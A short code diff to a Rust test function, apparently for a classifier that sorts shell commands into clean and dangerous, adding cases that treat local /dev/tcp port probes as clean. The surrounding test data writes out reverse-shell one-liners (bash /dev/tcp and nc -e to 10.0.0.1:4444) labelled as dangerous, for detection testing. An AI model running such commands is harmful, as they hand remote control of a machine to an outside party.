@@ -186,6 +186,9 @@ fn obfuscated_forms() {
     clean("echo \"$SCRIPT\" | bash");
     clean("\"$(dirname \"$0\")\"/gen_tests.py | bash");
     danger("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
+    // Waiting for a local port to open is no remote shell.
+    clean("while ! (echo >/dev/tcp/127.0.0.1/22) >/dev/null 2>&1; do sleep 1; done");
+    clean("exec 3<>/dev/tcp/localhost/8080");
     danger("nc -e /bin/sh 10.0.0.1 4444");
     // Well-known environment set-up idioms.
     clean("eval \"$(ssh-agent -s)\"");
